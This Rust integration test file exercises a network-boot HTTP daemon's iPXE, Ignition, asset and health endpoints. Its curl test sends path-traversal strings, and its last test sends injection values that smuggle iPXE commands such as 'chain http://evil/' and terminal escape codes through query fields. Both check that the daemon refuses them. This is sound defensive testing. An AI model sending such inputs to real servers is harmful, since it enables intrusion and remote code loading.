//! The real daemon on an ephemeral port, fetched with a real HTTP client and with curl.

mod common;

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Daemon, replace, write};

const MAC1: &str = "52:54:00:aa:00:01";

/// A config and profile tree in a temp dir: one profile with one machine, 30 MiB asset.
fn lab() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "kindling.toml",
        "[http]\nlisten = \"127.0.0.1:0\"\n[paths]\nipxe_scripts = \"ipxe\"\nipxe_binaries = \"bin\"\n",
    );
    write(root, "bin/ipxe.efi", "MZ not really iPXE");
    for f in ["boot.ipxe.j2", "profile.ipxe.j2"] {
        let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("ipxe").join(f);
        write(
            root,
            &format!("ipxe/{f}"),
            &std::fs::read_to_string(src).unwrap(),
        );
    }
    write(
        root,
        "profiles/node.toml",
        &format!(
            "ignition = \"node.ign.j2\"\n[boot]\nkernel = \"os/vmlinuz\"\ninitrd = [\"os/initrd.img\"]\n\
             args = [\"ignition.config.url={{{{ base_url }}}}/ignition?mac={{{{ mac }}}}\"]\n\
             [[machine]]\nmac = \"{MAC1}\"\nhostname = \"alpha\"\n"
        ),
    );
    write(
        root,
        "profiles/node.ign.j2",
        "{\"ignition\": {\"version\": \"3.4.0\"}, \"storage\": {\"files\": [{\"path\": \"/etc/hostname\", \
         \"contents\": {\"source\": {{ (\"data:,\" ~ hostname) | tojson }}}}]}}",
    );
    let big: Vec<u8> = (0..30u32 * 1024 * 1024).map(|i| (i % 251) as u8).collect();
    std::fs::create_dir_all(root.join("assets/os")).unwrap();
    std::fs::write(root.join("assets/os/vmlinuz"), &big).unwrap();
    write(root, "secret", "top secret");
    dir
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

async fn get(url: &str) -> (u16, String) {
    let r = client().get(url).send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_endpoint_over_a_real_socket() {
    let dir = lab();
    let d = Daemon::start(&dir.path().join("kindling.toml"));
    let base = format!("http://{}", d.addr);

    let (s, body) = get(&d.url("/boot.ipxe")).await;
    assert_eq!(s, 200);
    assert!(
        body.contains(&format!("chain --autofree {base}/ipxe?mac=${{mac:hexhyp}}")),
        "{body}"
    );

    let (s, body) = get(&d.url("/ipxe?mac=52-54-00-AA-00-01&arch=x86_64&uuid=&serial=XYZ")).await;
    assert_eq!(s, 200, "{body}");
    assert!(body.contains(&format!("kernel {base}/assets/os/vmlinuz initrd=initrd.img ignition.config.url={base}/ignition?mac={MAC1}")), "{body}");
    assert!(
        body.contains(&format!("initrd {base}/assets/os/initrd.img\nboot\n")),
        "{body}"
    );

    let (s, body) = get(&d.url(&format!("/ignition?mac={MAC1}"))).await;
    assert_eq!(s, 200);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        v["storage"]["files"][0]["contents"]["source"],
        "data:,alpha"
    );

    let (s, body) = get(&d.url(&format!("/metadata?mac={MAC1}"))).await;
    assert_eq!(s, 200);
    assert!(body.contains("HOSTNAME=alpha\n"), "{body}");

    let (s, body) = get(&d.url("/ipxe?mac=52:54:00:aa:00:02")).await;
    assert_eq!(s, 404);
    assert!(
        body.contains("no profile for machine 52:54:00:aa:00:02"),
        "{body}"
    );
    assert_eq!(get(&d.url("/ipxe?mac=bogus")).await.0, 400);
    assert_eq!(get(&d.url("/ignition")).await.0, 400);

    let (s, body) = get(&d.url("/healthz")).await;
    assert_eq!(s, 200);
    assert!(body.contains("\"status\":\"ok\""), "{body}");

    // A 30 MiB asset: full, ranged, HEAD.
    let r = client()
        .get(d.url("/assets/os/vmlinuz"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let body = r.bytes().await.unwrap();
    assert_eq!(body.len(), 30 * 1024 * 1024);
    assert!(
        body.iter().enumerate().all(|(i, &b)| b == (i % 251) as u8),
        "the file's bytes, not placeholders"
    );
    let r = client()
        .get(d.url("/assets/os/vmlinuz"))
        .header("Range", "bytes=31457270-")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 206);
    assert_eq!(
        r.headers()["content-range"],
        "bytes 31457270-31457279/31457280"
    );
    let tail: Vec<u8> = (31_457_270u32..31_457_280)
        .map(|i| (i % 251) as u8)
        .collect();
    assert_eq!(r.bytes().await.unwrap().as_ref(), tail.as_slice());

    // One log line per request with the machine's MAC and what it was served.
    let line = d
        .wait_log(Duration::from_secs(5), |l| {
            l.contains("http request") && l.contains("served=ignition")
        })
        .expect("request log line");
    assert!(
        line.contains(&format!("mac={MAC1}"))
            && line.contains("profile=node")
            && line.contains("status=200"),
        "{line}"
    );
    let line = d
        .wait_log(Duration::from_secs(5), |l| {
            l.contains("status=404") && l.contains("/ipxe")
        })
        .unwrap();
    assert!(
        line.contains("mac=52:54:00:aa:00:02") && line.contains("no profile"),
        "{line}"
    );

    assert!(d.terminate().success(), "graceful exit on SIGTERM");
}

/// Read one HTTP/1.1 response with a Content-Length from `r`: (status line, head, body).
fn read_response(r: &mut impl std::io::BufRead) -> (String, String, Vec<u8>) {
    let mut head = String::new();
    loop {
        let mut line = String::new();
        assert!(
            r.read_line(&mut line).unwrap() > 0,
            "connection closed in a head"
        );
        if line == "\r\n" {
            break;
        }
        head.push_str(&line);
    }
    let len: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length: ")
                .map(|v| v.trim().parse().unwrap())
        })
        .expect("Content-Length");
    let mut body = vec![0; len];
    r.read_exact(&mut body).unwrap();
    (head.lines().next().unwrap().to_string(), head, body)
}

/// Asset bodies go out with sendfile (src/http/zero_copy.rs): on one connection, pipelined
/// requests for a whole file, a range of it, a small file and a boot script come back in
/// order with the files' own bytes; a file that shrinks while it is sent ends the connection
/// short instead of being padded.
#[test]
fn asset_bodies_are_the_files_bytes_pipelined_and_cut_short_when_the_file_shrinks() {
    use std::io::{BufReader, Read, Write};
    let dir = lab();
    let root = dir.path();
    let pattern = |n: usize, seed: usize| -> Vec<u8> {
        (0..n).map(|i| ((i * 7 + seed) % 253) as u8).collect()
    };
    std::fs::write(root.join("assets/os/initrd.img"), pattern(3 << 20, 1)).unwrap();
    std::fs::write(root.join("assets/os/small"), pattern(1000, 2)).unwrap();
    std::fs::write(root.join("assets/os/big"), pattern(64 << 20, 3)).unwrap();
    let d = Daemon::start(&root.join("kindling.toml"));

    let mut conn = std::net::TcpStream::connect(d.addr).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut requests = String::new();
    for (path, extra) in [
        ("/assets/os/initrd.img", ""),
        ("/assets/os/initrd.img", "Range: bytes=100000-2199999\r\n"),
        ("/assets/os/small", ""),
        ("/boot.ipxe", ""),
        ("/assets/os/initrd.img", ""),
    ] {
        requests.push_str(&format!("GET {path} HTTP/1.1\r\nHost: k\r\n{extra}\r\n"));
    }
    conn.write_all(requests.as_bytes()).unwrap();
    let mut r = BufReader::new(conn.try_clone().unwrap());
    let initrd = pattern(3 << 20, 1);
    let (status, _, body) = read_response(&mut r);
    assert!(status.contains(" 200 "), "{status}");
    assert!(body == initrd, "whole file");
    let (status, head, body) = read_response(&mut r);
    assert!(status.contains(" 206 "), "{status}");
    assert!(
        head.to_ascii_lowercase()
            .contains("content-range: bytes 100000-2199999/3145728"),
        "{head}"
    );
    assert!(body == initrd[100_000..2_200_000], "the range");
    let (_, _, body) = read_response(&mut r);
    assert_eq!(body, pattern(1000, 2), "small file");
    let (_, _, body) = read_response(&mut r);
    assert!(body.starts_with(b"#!ipxe"), "boot script between assets");
    let (_, _, body) = read_response(&mut r);
    assert!(body == initrd, "whole file again");

    // Shrinking under way: what arrives is the file's prefix, then the connection ends.
    let mut conn = std::net::TcpStream::connect(d.addr).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    conn.write_all(b"GET /assets/os/big HTTP/1.1\r\nHost: k\r\n\r\n")
        .unwrap();
    let mut first = vec![0u8; 1 << 20];
    conn.read_exact(&mut first).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(root.join("assets/os/big"))
        .unwrap()
        .set_len(4 << 20)
        .unwrap();
    let mut rest = Vec::new();
    let _ = conn.read_to_end(&mut rest);
    first.extend(rest);
    let head_end = first.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
    let body = &first[head_end..];
    assert!(
        body.len() < 64 << 20,
        "the connection ended short: {} bytes",
        body.len()
    );
    let big = pattern(64 << 20, 3);
    assert!(
        body == &big[..body.len()],
        "only the file's own bytes, no padding"
    );
}

/// Run curl, return (http status, body).
fn curl(args: &[&str]) -> (String, String) {
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "10", "-o", "-", "-w", "\n%{http_code}"])
        .args(args)
        .output()
        .expect("run curl");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (code.to_string(), body.to_string())
}

#[test]
fn curl_sees_the_same() {
    if Command::new("curl").arg("--version").output().is_err() {
        eprintln!("SKIP curl_sees_the_same: curl is not installed (scripts/setup.sh installs it)");
        return;
    }
    let dir = lab();
    let d = Daemon::start(&dir.path().join("kindling.toml"));
    let (code, body) = curl(&[&d.url("/ipxe?mac=52-54-00-aa-00-01")]);
    assert_eq!(code, "200");
    assert!(body.starts_with("#!ipxe"), "{body}");
    let (code, body) = curl(&["-r", "0-9", &d.url("/assets/os/vmlinuz")]);
    assert_eq!(code, "206");
    assert_eq!(body.len(), 10);
    let (code, body) = curl(&["-I", &d.url("/assets/os/vmlinuz")]);
    assert_eq!(code, "200");
    let lower = body.to_ascii_lowercase();
    assert!(
        lower.contains("content-length: 31457280")
            && lower.contains("etag:")
            && lower.contains("accept-ranges: bytes"),
        "{body}"
    );
    // Traversal, as curl sends it verbatim with --path-as-is.
    for path in [
        "/assets/../secret",
        "/assets/os/../../secret",
        "/assets/%2e%2e/secret",
        "/assets/..%2Fsecret",
    ] {
        let (code, body) = curl(&["--path-as-is", &d.url(path)]);
        assert!(code == "404" || code == "400", "{path}: {code}");
        assert!(
            !body.contains("top secret"),
            "{path} escaped the assets directory"
        );
    }
    // Header names as nginx writes them: GRUB's HTTP client reads `Content-Length:` only.
    assert!(body.contains("Content-Length: 31457280\r\n"), "{body}");
    // shim asks for its second stage as `<dir>//grubx64.efi`: slashes are merged.
    let (code, body) = curl(&["--path-as-is", &d.url("/boot//ipxe.efi")]);
    assert_eq!(
        (code.as_str(), body.as_str()),
        ("200", "MZ not really iPXE")
    );
    // A missing optional file under /boot/ closes the connection (shim waits 10 s on a
    // kept-alive one).
    let (code, head) = curl(&["-i", &d.url("/boot/revocations_sbat.efi")]);
    assert_eq!(code, "404");
    assert!(head.contains("Connection: close\r\n"), "{head}");
    assert_eq!(curl(&[&d.url("/ipxe?mac=nonsense")]).0, "400");
    assert_eq!(curl(&[&d.url("/ipxe?mac=52:54:00:00:00:99")]).0, "404");
    assert_eq!(
        curl(&["-X", "DELETE", &d.url("/ipxe?mac=52:54:00:aa:00:01")]).0,
        "405"
    );
}

/// Poll `url` until `pred(body)` holds; return how long it took.
async fn until(url: &str, timeout: Duration, pred: impl Fn(u16, &str) -> bool) -> Option<Duration> {
    let start = Instant::now();
    while start.elapsed() < timeout {
        let (s, body) = get(url).await;
        if pred(s, &body) {
            return Some(start.elapsed());
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    None
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hot_reload_and_broken_edits_keep_the_last_good_set() {
    let dir = lab();
    let root = dir.path();
    let d = Daemon::start(&root.join("kindling.toml"));
    let ipxe = d.url(&format!("/ipxe?mac={MAC1}"));
    let node = std::fs::read_to_string(root.join("profiles/node.toml")).unwrap();

    // 1. An edit (saved by rename, as editors do) is served within a second or two.
    replace(
        root,
        "profiles/node.toml",
        &node.replace("hostname = \"alpha\"", "hostname = \"beta\""),
    );
    let took = until(&ipxe, Duration::from_secs(5), |s, b| {
        s == 200 && b.contains("(beta)")
    })
    .await
    .unwrap_or_else(|| panic!("edit not picked up:\n{}", d.log_text()));
    eprintln!("hot reload observed after {took:?}");
    assert!(took < Duration::from_secs(2), "reload took {took:?}");

    // 2. A broken edit: the old profile stays, /healthz shows the error with file and line.
    replace(
        root,
        "profiles/node.toml",
        &format!("{node}\n[[machine]]\nmac = \"not-a-mac\"\n"),
    );
    let health = d.url("/healthz");
    until(&health, Duration::from_secs(5), |_, b| {
        b.contains("degraded")
    })
    .await
    .expect("degraded");
    let (_, body) = get(&health).await;
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    let err = v["profiles"]["last_error"][0].as_str().unwrap();
    assert!(
        err.contains("profiles/node.toml:") && err.contains("invalid MAC address \"not-a-mac\""),
        "{err}"
    );
    let (s, body) = get(&ipxe).await;
    assert_eq!(s, 200);
    assert!(
        body.contains("(beta)"),
        "last good set still served: {body}"
    );
    assert!(
        d.log_text()
            .contains("still serving the last good profiles")
    );

    // 3. A broken template edit is also refused.
    replace(root, "profiles/node.toml", &node);
    until(&health, Duration::from_secs(5), |_, b| {
        b.contains("\"status\":\"ok\"")
    })
    .await
    .expect("recovered");
    replace(
        root,
        "profiles/node.ign.j2",
        "{\"ignition\": {\"version\": \"{{ nope }}\"}}",
    );
    until(&health, Duration::from_secs(5), |_, b| {
        b.contains("node.ign.j2")
    })
    .await
    .expect("template error shown");
    let (s, body) = get(&d.url(&format!("/ignition?mac={MAC1}"))).await;
    assert_eq!(s, 200);
    assert!(
        body.contains("data:,alpha"),
        "old template still served: {body}"
    );

    // 4. Fixing both recovers; adding a profile file adds machines; deleting removes them.
    replace(root, "profiles/node.toml", &node);
    write(
        root,
        "profiles/node.ign.j2",
        "{\"ignition\": {\"version\": \"3.4.0\"}}",
    );
    until(&health, Duration::from_secs(5), |_, b| {
        b.contains("\"status\":\"ok\"")
    })
    .await
    .expect("recovered");
    write(
        root,
        "profiles/extra.toml",
        "[boot]\nlocal = true\n[[machine]]\nmac = \"52:54:00:aa:00:09\"\n",
    );
    let extra = d.url("/ipxe?mac=52:54:00:aa:00:09");
    until(&extra, Duration::from_secs(5), |s, b| {
        s == 200 && b.contains("exit")
    })
    .await
    .expect("new profile served");
    std::fs::remove_file(root.join("profiles/extra.toml")).unwrap();
    until(&extra, Duration::from_secs(5), |s, _| s == 404)
        .await
        .expect("deleted profile gone");
}

#[test]
fn refuses_to_start_with_invalid_profiles() {
    let dir = lab();
    write(
        dir.path(),
        "profiles/bad.toml",
        "[boot]\nkernel = \"k\"\n[[machine]]\nmac = \"52:54:00:aa:00:01\"\n",
    );
    let out = Command::new(env!("CARGO_BIN_EXE_kindling"))
        .args(["serve", "--config"])
        .arg(dir.path().join("kindling.toml"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(64));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("node.toml:7: machine 52:54:00:aa:00:01 is already declared at"),
        "{err}"
    );
    assert!(err.contains("bad.toml:4"), "{err}");
}

#[test]
fn shipped_example_config_runs_as_is() {
    // The example listens on 127.0.0.1:8080; run a copy on port 0 so parallel tests never clash.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(root.join("kindling.toml")).unwrap();
    assert!(
        text.contains("mode = \"off\""),
        "the example must not run DHCP"
    );
    let dir = tempfile::tempdir().unwrap();
    let text = text
        .replace("listen = \"127.0.0.1:8080\"", "listen = \"127.0.0.1:0\"")
        .replace(
            "profiles = \"profiles\"",
            &format!("profiles = \"{}\"", root.join("profiles").display()),
        )
        .replace(
            "ipxe_scripts = \"ipxe\"",
            &format!("ipxe_scripts = \"{}\"", root.join("ipxe").display()),
        );
    write(dir.path(), "kindling.toml", &text);
    let d = Daemon::start(&dir.path().join("kindling.toml"));
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (s, body) = rt.block_on(get(&d.url("/ipxe?mac=52:54:00:10:00:11")));
    assert_eq!(s, 200, "{body}");
    assert!(body.contains("(ctrl-1)"), "{body}");
    assert!(d.terminate().success());
}

#[test]
fn json_logs_carry_the_mac_as_a_field() {
    let dir = lab();
    write(
        dir.path(),
        "kindling.toml",
        "[http]\nlisten = \"127.0.0.1:0\"\n[paths]\nipxe_scripts = \"ipxe\"\n[log]\nformat = \"json\"\n",
    );
    let d = Daemon::start(&dir.path().join("kindling.toml"));
    let rt = tokio::runtime::Runtime::new().unwrap();
    assert_eq!(
        rt.block_on(get(&d.url(&format!("/ipxe?mac={MAC1}")))).0,
        200
    );
    let line = d
        .wait_log(Duration::from_secs(5), |l| l.contains("\"http request\""))
        .expect("a JSON request line");
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(v["fields"]["mac"], MAC1, "{line}");
    assert_eq!(v["fields"]["served"], "ipxe", "{line}");
    assert_eq!(v["fields"]["status"], 200, "{line}");
}

/// A hostname with a line break (or an escape sequence, or iPXE's `&&`) cannot add a command
/// to an iPXE script or a line to the log: the request is refused with the reason, and the
/// machine without a profile hostname still gets a clean script when it reports a good one.
#[tokio::test]
async fn hostile_facts_are_refused_and_reach_no_script_or_log_line() {
    let dir = lab();
    write(
        dir.path(),
        "profiles/any.toml",
        "default = true\n[boot]\nkernel = \"k\"\n",
    );
    let d = Daemon::start(&dir.path().join("kindling.toml"));
    for attack in [
        "hostname=x%0Aexit",
        "hostname=x%0D%0Achain%20http://evil/",
        "serial=%1B%5B2J",
        "product=pc%20%26%26%20chain%20http://evil/",
    ] {
        let (status, body) = get(&d.url(&format!("/ipxe?mac=52:54:00:aa:00:99&{attack}"))).await;
        assert_eq!(status, 400, "{attack}: {body}");
        assert!(body.starts_with("kindling: "), "{body}");
    }
    let (status, script) = get(&d.url("/ipxe?mac=52:54:00:aa:00:99&hostname=box-9")).await;
    assert_eq!(status, 200, "{script}");
    assert!(script.contains("(box-9)"), "{script}");
    assert!(!script.contains("evil") && !script.lines().any(|l| l.trim() == "exit"));
    let log = d.log_text();
    assert!(
        !log.lines()
            .any(|l| l.starts_with("exit") || l.starts_with("chain") || l.contains('\u{1b}')),
        "{log}"
    );
}
